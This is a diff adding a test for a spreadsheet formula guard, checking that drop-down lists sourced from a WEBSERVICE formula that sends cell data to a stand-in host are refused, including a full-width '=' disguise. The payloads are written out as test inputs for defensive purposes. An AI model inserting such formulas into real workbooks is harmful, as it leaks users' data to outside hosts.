@@ -218,6 +218,22 @@ describe('formula guard in applyOps (fake Excel)', () => {
     expect(approved).toMatchObject({ ok: true });
   });
 
+  it('refuses a drop-down list whose source is a network formula, and keeps a list of words', async () => {
+    const fake = await salesWorkbook();
+    const { db } = await freshStore();
+    const before = fake.dump();
+    const leak = opsOf({ op: 'dataValidationList', sheet: 'Sales', address: 'A2:A5', values: ['=WEBSERVICE("https://x.example/?d="&B2)'] });
+    const refused = await applyOps(fake.run, db, leak, { capability: always });
+    expect(refused).toMatchObject({ ok: false, error: { kind: 'formula-guard', opIndex: 0 } });
+    if (!refused.ok) expect(refused.error.message).toMatch(/Sales!A2:A5: WEBSERVICE/);
+    expect(fake.dump()).toEqual(before);
+    // A disguised "=" (full-width) is a formula to Excel too.
+    const disguised = await applyOps(fake.run, db, opsOf({ op: 'dataValidationList', sheet: 'Sales', address: 'A2', values: ['\uff1dWEBSERVICE("https://x.example")'] }), { capability: always });
+    expect(disguised).toMatchObject({ ok: false, error: { kind: 'formula-guard' } });
+    const words = await applyOps(fake.run, db, opsOf({ op: 'dataValidationList', sheet: 'Sales', address: 'A2:A5', values: ['North', 'WEBSERVICE is a word here'] }), { capability: always });
+    expect(words).toMatchObject({ ok: true });
+  });
+
   it('writes text that merely mentions a formula, because cell text is data', async () => {
     const fake = await salesWorkbook();
     const { db } = await freshStore();
